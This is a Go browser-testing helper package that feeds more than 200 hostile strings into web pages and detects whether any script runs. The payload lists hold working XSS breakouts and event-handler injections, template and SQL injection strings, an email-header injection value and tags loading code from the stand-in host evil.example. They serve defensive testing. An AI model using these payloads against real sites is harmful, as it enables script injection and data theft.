package testkit

import (
	"context"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// breakouts end each place in which a page may put a text: an attribute, an element, a comment, a script.
var breakouts = []string{"", `"`, `">`, `'>`, `</textarea>`, `</title>`, `</option></select>`, `</script>`, `--><!-- -->`, "`>", `\">`}

// scripts call hit, or load something that would call it, if a page lets them run.
var scripts = []string{
	`<script>hit()</script>`, `<ScRiPt>hit()</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<svg onload=hit()>`, `<svg><script>hit()</script></svg>`,
	`<img src=x onerror=hit()>`, `<iframe srcdoc="<script>top.hit()</script>"></iframe>`, `<a href="javascript:hit()">x</a>`, `<details open ontoggle=hit()>`,
	`<input autofocus onfocus=hit()>`, `<body onload=hit()>`, `<video><source onerror=hit()></video>`, `<meta http-equiv=refresh content="0;url=javascript:hit()">`,
	`<base href=//evil.example/>`, `<button form=give formaction=//evil.example>x</button>`, `<style>@import "//evil.example/x.css";</style>`, `<object data="data:text/html,<script>hit()</script>"></object>`,
	`<math><mtext><img src=x onerror=hit()></mtext></math>`,
}

// unusualTexts have a meaning for templates, URLs, encodings or writing systems.
var unusualTexts = []string{
	`{{.}}`, `{{7*7}}`, `{{template "title" .}}`, "{{`x`}}", `{{constructor.constructor('hit()')()}}`, `${hit()}`, `#{7*7}`, `<%= hit() %>`, `<% 7*7 %>`, `{% debug %}`, `[[7*7]]`,
	`<?php hit() ?>`, `%s%n%x`, `{0}`, `{organisation}`, `*{7*7}`, `javascript:hit()`, `JaVaScRiPt:hit()`, "java\tscript:hit()", `data:text/html,<script>hit()</script>`, `vbscript:hit()`,
	`' onmouseover=hit() x='`, `" onfocus=hit() autofocus x="`, ` onclick=hit() `, `' OR 1=1 --`, `"; hit(); "`, `\'; hit(); //`, `</SCRIPT ><script>hit()</script >`, `<!--<script>hit()`,
	`&#60;script&#62;hit()&#60;/script&#62;`, `&lt;script&gt;hit()&lt;/script&gt;`, `%3Cscript%3Ehit()%3C/script%3E`, `\u003cscript\u003ehit()\u003c/script\u003e`, `+ADw-script+AD4-hit()+ADw-/script+AD4-`,
	"\u202eanA\u202c", "\u2066Ana\u2069", "A\u200bn\u200ca\u200d", "\ufeffAna", "A\u0301\u0302\u0303\u0304\u0305na",
	"Ana\u2028Li\u2029", "Ana\u00a0Li", "\U0001F469\u200d\U0001F33E", "王小明", "عائشة", "Ana\u034f",
	"Ana\r\nBcc: x@evil.example", "Ana\nLi", "Ana\r\n\r\n<script>hit()</script>", strings.Repeat("<b>long</b>", 120), strings.Repeat("x", 1500) + "<script>hit()</script>", strings.Repeat("W", 90), "A\x00na", "<<<>>>", `&&amp;&`, `""''`,
}

// HostileTexts returns more than 200 texts that are known from attacks on web pages.
func HostileTexts() []string {
	all := slices.Clone(unusualTexts)
	for _, breakout := range breakouts {
		for _, script := range scripts {
			all = append(all, breakout+script)
		}
	}
	return all
}

// HarmlessText is a normal first name.
const HarmlessText = "Ana"

// WatchErrors records what goes wrong in the browser's pages: calls of hit by scripts, violations of the content
// security policy, errors, dialogs, and output on the console. The function it returns lists what was recorded so far.
func WatchErrors(t testing.TB, ctx context.Context) func() []string {
	t.Helper()
	var mu sync.Mutex
	var wrong []string
	chromedp.ListenTarget(ctx, func(event any) {
		mu.Lock()
		defer mu.Unlock()
		switch e := event.(type) {
		case *runtime.EventExceptionThrown:
			wrong = append(wrong, e.ExceptionDetails.Error())
		case *runtime.EventConsoleAPICalled:
			wrong = append(wrong, "console."+string(e.Type)+" was called")
		case *page.EventJavascriptDialogOpening:
			wrong = append(wrong, "dialog: "+e.Message)
		case *log.EventEntryAdded:
			if e.Entry.Source != log.SourceNetwork { // the browser reports pages with status 404 and 422 as network entries
				wrong = append(wrong, string(e.Entry.Source)+": "+e.Entry.Text)
			}
		}
	})
	err := chromedp.Run(ctx, log.Enable(), runtime.Enable(), page.Enable(), chromedp.ActionFunc(func(ctx context.Context) error {
		_, err := page.AddScriptToEvaluateOnNewDocument(`window.hit = () => { throw new Error("a script ran") }`).Do(ctx)
		return err
	}))
	if err != nil {
		t.Fatalf("testkit: %v", err)
	}
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(wrong)
	}
}

// pageStructureScript lists the kinds of elements with each of their attributes, and the addresses of other hosts.
const pageStructureScript = `(() => {
	const kinds = new Set()
	for (const e of document.querySelectorAll("*")) {
		kinds.add(e.localName)
		for (const a of e.attributes) {
			kinds.add(e.localName + "[" + a.name + "]")
			if (["href", "src", "action", "formaction", "data", "srcdoc"].includes(a.name)) {
				const to = new URL(a.value, document.baseURI)
				if (to.host !== location.host) kinds.add(to.href)
			}
		}
	}
	return [...kinds].sort()
})()`

// PageStructure returns what the browser's current page consists of, each kind once: elements ("a"), their attributes
// ("a[href]"), and addresses on other hosts. A text that is only shown adds nothing.
func PageStructure(t testing.TB, ctx context.Context) (kinds []string) {
	t.Helper()
	if err := chromedp.Run(ctx, chromedp.Evaluate(pageStructureScript, &kinds)); err != nil {
		t.Fatalf("testkit: %v", err)
	}
	return kinds
}

// FieldText returns text as a browser's field keeps it: without line ends, nulls, and space at its ends.
func FieldText(text string) string {
	return strings.TrimSpace(strings.Map(func(r rune) rune {
		if strings.ContainsRune("\r\n\x00\ufffd", r) {
			return -1
		}
		return r
	}, text))
}
